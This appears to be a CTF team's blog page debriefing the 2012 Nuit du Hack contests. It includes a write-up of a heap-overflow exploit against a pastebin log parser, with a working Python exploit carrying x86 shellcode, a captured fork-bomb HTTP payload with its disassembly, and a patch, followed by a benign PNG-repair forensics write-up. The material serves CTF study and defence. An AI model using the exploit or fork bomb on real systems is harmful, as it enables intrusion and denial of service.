To search


w3pwnz, therefore we are

Tag - ndh2k12

Entries feed Comments feed

Tuesday, July 3 2012 12:03

NDH2k12 - Debriefing


We just participated in the "Nuit du Hack" CTFs the two last weekends. CTFs, with a "s", because there was two of them : a private anda public CTF. The 23 june was the "Nuit du Hack" event, and it was originally planned that the two CTFs take place here, in the same time, but unfortunately the public CTF was reported to the next weekend because of technical issues.

* Private CTF :

This was an attack/defense CTF ! Each team (13 in total) had a server with a dozen of services to patch/protect/attack.
We successfully exploited some webapp, and a so called "pastebin" challenge (a RCE caused by an overflow in a log parsing program), which played an important role in this CTF as we'll see :)

Unfortunately for us, at some time of the night (~ 3h30), almost all teams lost access to their VM, and without really knowing what was the cause of this situation, the staff decided to prematurely stop the CTF. So after validating our preciously keeped flags (~ 20 :p) we finished at the 2nd place with 4250pts, just behind HackerDom with 4960pts. This is not a bad score, but this left us with a slight taste of biterness when we latter learned what really happened : a team actually launched a fork bomb on the pastebin service (him again !) shutting down all the unpatched teams (More information : here(EN), here(EN), here(EN), here(EN), here(FR), here(FR) and here)

Since the pastebin was the one causing so much trouble, we wrote a little write-up that you can find here :)* Public CTF :

So the public challenge was reported to the next weekend, and lasted 48h. This time it was a "classic" CTF, with some challenges to solve in categories like WebApp, Crackme, Forensics, Stegano or Crypto.
This time we finished 1st, with a total of 13710 points, by solving 23 out of 28 challenges \o/
You can find a few write ups here :


NDH2k12 Write-up Pastebin

The first thing we have for this challenge, is a "pastebin-like" website, with possibility to create, display, and delete entries
All actions are logged in the "pastebin.log" file, and new pastes are created in files "data/".md5($title).

The second part, is a cron job running every minute, calling the binary "resources/parse" which parses the pastebin.log file and update "resources/stats.html" with the current number of pastes, the number of actions, logged attacks (xss, lfi, sqli, ...). This file is then displayed in the website's index.

We also notice that the flag is in "resources/functions.php".

Here is the code for creating new pastes :

$log = fopen('pastebin.log', 'a');
if(isset($_POST['title'], $_POST['text'], $_POST['time'])) {
    $name = md5($_POST['title']);
    $time = intval($_POST['time']);
    file_put_contents("data/$name", $_POST['title']."\x00".$_POST['text']);
    $len = strlen($_POST['text']);
    fwrite($log, $time.' + '.$len.' '.$name.' '.$_POST['title']."\n");
    header("Location: ?id=$name");

So a log entry has the following format :

timestamp + post_length md5_title title\n

Now the vulnerability. It's located in the "get_parse" routine of the parse binary :void *__cdecl get_paste(int inputfd)
  char req_type; // [sp+2Bh] [bp-Dh]@1
  void *buffer; // [sp+2Ch] [bp-Ch]@1
  buffer = malloc(0x12Cu);
  __isoc99_fscanf(inputfd, "%d %c %d", buffer, &req_type, (char *)buffer + 292);
  if ( *(_DWORD *)buffer )
    switch ( req_type )
      case '-':
        *((_DWORD *)buffer + 74) = handle_del;
      case '?':
        *((_DWORD *)buffer + 74) = handle_query;
      case '+':
        *((_DWORD *)buffer + 74) = handle_add;
        buffer = 0;
    __isoc99_fscanf(inputfd, "%32s %[^\n]s\n", (char *)buffer + 259, (char *)buffer + 4);
    buffer = 0;
  return buffer;As we can see a buffer is allocated to hold the current paste's information. The first fscanf writes the timestamp at the beginning of the buffer (offset +0), the type in a separated variable (req_type) and the title's length at the end of the buffer (offset +292).
A handler pointer is then placed at buffer+74*4 (offset +296), and finally the second fscanf copies the title just after the timestamp (offset +4) without length control.
So the title (that we control) just has to be longer than 292 bytes to overflow, and overwrite the handler pointer, causing a segfault :

~/vhosts/ndhpastebin$ cat pastebin.log
1340853859 + 2 c73301b7b71679067b02cff4cdc5e700 aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaabbbb
1340853866 ? 0 c73301b7b71679067b02cff4cdc5e700 c73301b7b71679067b02cff4cdc5e700
~/vhosts/ndhpastebin$ ./resources/parse pastebin.log aaa
Erreur de segmentation (core dumped)
~/vhosts/ndhpastebin$ gdb resources/parse core
Core was generated by `./resources/parse pastebin.log aaa'.
Program terminated with signal 11, Segmentation fault.
#0  0x62626262 in ?? ()
(gdb) x/16wx $eax
0x8d582d8:        0x4febce63        0x61616161        0x61616161        0x61616161
0x8d582e8:        0x61616161        0x61616161        0x61616161        0x61616161
0x8d582f8:0x61616161        0x61616161        0x61616161        0x61616161
0x8d58308:        0x61616161        0x61616161        0x61616161        0x61616161

We have overwritten EIP, and at the time of the crash, EAX points to the beginning of the buffer (timestamp + title).
The heap being executable, two "call eax" allow us to gain execution by directly jumping into our buffer :

~/vhosts/ndhpastebin$ objdump -D resources/parse | grep call | grep eax
 80486c8:        ff 14 85 8c a0 04 08         call   *0x804a08c(,%eax,4)
 804870f:        ff d0                        call   *%eax
 8048e0b:        ff d0                        call   *%eax

The timestamp is also not a problem, since it is also supplied by the user (variable $_POST['time']). So we'll just submit a timestamp equals to 0x90909090, then our shellcode in the title (padded to 292 bytes) followed by the address of one of the previous "call eax". And that's it:)
As we are in an attack/defense CTF, reverse-shells may be blocked, or monitored, so we'll use a shellcode to copy the wanted flag into an accessible location (we'll of course make sure to remove this file afterwards...)This vulnerability has also been used by one of the team (Les_Pas_Contents) to execute a persistent fork-bomb, causing a lot of teams to loose access to their server, and an early end to the CTF...(thanks delroth for the attack dump). Here's the attack, in the 4th packet from :

0040  18 66 50 4f 53 54 20 2f 20 48 54 54 50 2f 31 2e   .fPOST / HTTP/1.
0050  31 0d 0a 48 6f 73 74 3a 20 6c 6f 63 61 6c 68 6f   1..Host: localho
0060  73 74 0d 0a 43 6f 6e 74 65 6e 74 2d 54 79 70 65   st..Content-Type
0070  3a 20 61 70 70 6c 69 63 61 74 69 6f 6e 2f 78 2d   : application/x-
0080  77 77 77 2d 66 6f 72 6d 2d 75 72 6c 65 6e 63 6f   www-form-urlenco
0090  64 65 64 0d 0a 43 6f 6e 74 65 6e 74 2d 4c 65 6e   ded..Content-Len
00a0  67 74 68 3a 20 39 31 37 0d 0a 0d 0a 74 69 74 6c   gth: 917....titl
00b0  65 3d 25 36 61 25 30 32 25 35 38 25 63 64 25 38   e=%6a%02%58%cd%8
00c0  30 25 65 62 25 66 39 25 63 63 25 34 32 25 34 32   0%eb%f9%cc%42%42

Disassembled code:

00000000  6A02              push byte +0x2
00000002  58                pop eax
00000003  CD80              int 0x80           ; fork()
00000005  EBF9              jmp short 0x0      ; infinite loop

How to patch the vulnerability :
A quick and dirty fix consists in directly edit the format string of the second fscanf in the parse binary, to set a length limit for the title :
(here we replaced "[\n]" by "0290")

__isoc99_fscanf(inputfd, "%32s %0290s\n", (char *)buffer + 259, (char *)buffer + 4);

Exploit :

import urllib2, sys, struct
# /bin/cp /var/www/pastebin/resources/functions.php /var/www/pastebin/nawak.txt
shellcode ="\x31\xc0\x66\xb8\x10\x10\x29\xc4\x89\xe1\x29\xc1\x31\xc0\x89\x01\x31\xc0\xb0\x74\xc1\xe0\x08\xb0\x78\xc1\xe0\x08\xb0\x74\x50\x68\x77\x61\x6b\x2e\x68\x6e\x2f\x6e\x61\x68\x74\x65\x62\x69\x68\x2f\x70\x61\x73\x68\x2f\x77\x77\x77\x68\x2f\x76\x61\x72\x49\x49\x49\x49\x89\x21\x31\xc0\xb0\x70\x50\x68\x73\x2e\x70\x68\x68\x74\x69\x6f\x6e\x68\x66\x75\x6e\x63\x68\x63\x65\x73\x2f\x68\x73\x6f\x75\x72\x68\x6e\x2f\x72\x65\x68\x74\x65\x62\x69\x68\x2f\x70\x61\x73\x68\x2f\x77\x77\x77\x68\x2f\x76\x61\x72\x49\x49\x49\x49\x89\x21\x31\xc0\xb0\x70\xc1\xe0\x08\xb0\x63\xc1\xe0\x08\xb0\x2f\x50\x68\x2f\x62\x69\x6e\x49\x49\x49\x49\x89\x21\x89\xe3\x31\xc0\x50\x89\xe2\x31\xc0\xb0\x0b\xcd\x80"
addr =  "08048e0b".decode("hex")[::-1] # call eax
stamp = struct.unpack("<i","\x90"*4)
title = shellcode.rjust(292,"\x90")
title += addr
if len(sys.argv)<2:
    print ("Usage: ", argv[0], " url")
url = sys.argv[1]
def exploit():
    p =urllib2.urlopen(url, "title=" + urllib2.quote(title) + "&time=" + str(stamp) + "&text=bollocks")

Monday, July 2 2012 21:08

NDH2k12-wargame Write-up What the file ?

Name What the file ?
Score 1000
Content While doing some forensics, an analyst found a weird file. Please help him.

We have this file unknown.bin$ file unknown.bin.png
unknown.bin.png: PNG image data, CORRUPTED
$ pngcheck -vt7f unknown.bin
File: unknown.bin (1179008 bytes)
File is CORRUPTED.  It seems to have suffered EOL conversion.
It was probably transmitted in text mode.

Ok, it's a corrupted PNG that we have to patch.

We realized that the lengths and the chunks' names are affected by several alterations.

We begun by correcting those names and lengths for each chunk.A quick reminder from the RFC 2083 about the chunk layout :

    A 4-byte unsigned integer giving the number of bytes in the
    chunk's data field. The length counts only the data field, not
    itself, the chunk type code, or the CRC.  Zero is a valid
    length.  Although encoders and decoders should treat the length
    as unsigned, its value must not exceed (2^31)-1 bytes.

Chunk Type
    A 4-byte chunk type code.  Forconvenience in description and
    in examining PNG files, type codes are restricted to consist of
    uppercase and lowercase ASCII letters (A-Z and a-z, or 65-90
    and 97-122 decimal).  However, encoders and decoders must treat
    the codes as fixed binary values, not character strings.  For
    example, it would not be correct to represent the typecode
    IDAT by the EBCDIC equivalents of those letters.  Additional
    naming conventions for chunk types are discussed in the next

Chunk Data
    The data bytes appropriate to the chunk type, if any.  This
    field can be of zero length.

    A 4-byte CRC (Cyclic Redundancy Check) calculated on the
    preceding bytes in the chunk, including the chunk type code and
    chunk data fields, but not including the length field. The CRC
    is always present, even for chunks containing no data.  See CRC
    algorithm (Section 3.4).

No apparent problem for IHDR, sBIT, pHYs, tEXt(Software) and IEND chunks.

For IDAT chunks, we can understand that they're 8192 bytes long.
We scripted the thing to patch the file from offset 0x6A each 8204 bytes (8192 + 4 + 4 + 4) to 00 00 20 00 49 44 41 54 (Length + "IDAT").

$ pngcheck -vt7f unknown.bin.png
  chunk IDAT at offset 0x11c717, length 8192
  chunk IDAT at offset 0x11e723, length 8192:  EOF while reading data

We almost got a proper and genuine png file from pngcheck's point of view, except the latest IDAT chunk. This is normal, as this chunk is the latest one and isn't 8192 bytes long.

We fixed this by correcting with that value : size until the end of file - IEND chunk (12 bytes) - checksum (4 bytes) = 5705 bytes (0x1649).

$ pngcheck -vt7f unknown.bin.png
  chunk IDAT at offset 0x11c717, length 8192
  chunk IDAT at offset 0x11e723, length 5705
  CRC error in chunk IDAT (actual 66b9b445, should be 68cf7786)
  chunk IEND at offset 0x11fd78, length 0

Weird, the checksum is not correct, unlike all the IDAT checksums sofar...We'll see later.

